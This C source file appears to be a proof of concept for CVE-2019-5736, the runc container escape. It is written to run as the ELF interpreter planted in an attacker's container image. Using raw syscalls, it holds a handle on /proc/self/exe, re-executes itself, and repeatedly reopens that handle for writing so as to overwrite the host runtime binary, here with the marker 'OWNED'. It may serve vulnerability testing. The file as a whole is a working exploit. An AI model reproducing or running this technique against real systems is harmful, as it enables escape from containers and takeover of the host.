/* What an attacker puts in the place of the dynamic loader in his image (CVE-2019-5736).
 *
 * Started as the interpreter of somebody's ELF file it takes hold of that file and executes /writer, which is this program
 * again: that waits until nobody runs the file any more, and writes into it. No libc: as an interpreter there is nobody who
 * would relocate it. It says on stdout what it found.
 */
#include <asm/unistd.h>
#include <linux/fcntl.h>

#define HELD 9
#define TRIES 300

#if defined(__x86_64__)
__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall act\n\thlt\n");
static long call(long n, long a, long b, long c, long d) {
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}
#else
__asm__(".globl _start\n_start:\n\tmov x0, sp\n\tbl act\n\tbrk #1\n");
static long call(long n, long a, long b, long c, long d) {
    register long x8 __asm__("x8") = n;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory", "cc");
    return x0;
}
#endif

static void say(const char *text, long size) {
    call(__NR_write, 1, (long)text, size, 0);
}

__attribute__((used, noreturn)) void act(long *stack) {
    char *const *argv = (char *const *)(stack + 1);
    char link[256];
    long moment[2] = {0, 10000000};
    if (argv[0] && argv[0][0] == 'W') {
        for (int i = 0; i < TRIES; i++) {
            long file = call(__NR_openat, AT_FDCWD, (long)"/proc/self/fd/9", O_WRONLY, 0);
            if (file >= 0) {
                call(__NR_write, file, (long)"OWNED", 5, 0);
                say("wrote\n", 6);
                break;
            }
            call(__NR_nanosleep, (long)moment, 0, 0, 0);
        }
    } else {
        const char *writer[2], *none[1]; /* filled in here: nobody relocates a table of pointers */
        writer[0] = "W";
        writer[1] = none[0] = 0;
        long size = call(__NR_readlinkat, AT_FDCWD, (long)"/proc/self/exe", (long)link, sizeof link);
        say("loaded ", 7);
        say(link, size > 0 ? size : 0);
        say("\n", 1);
        long exe = call(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);
        call(__NR_dup3, exe, HELD, 0, 0);
        call(__NR_execve, (long)"/writer", (long)writer, (long)none, 0);
    }
    for (;;)
        call(__NR_exit_group, 0, 0, 0, 0);
}
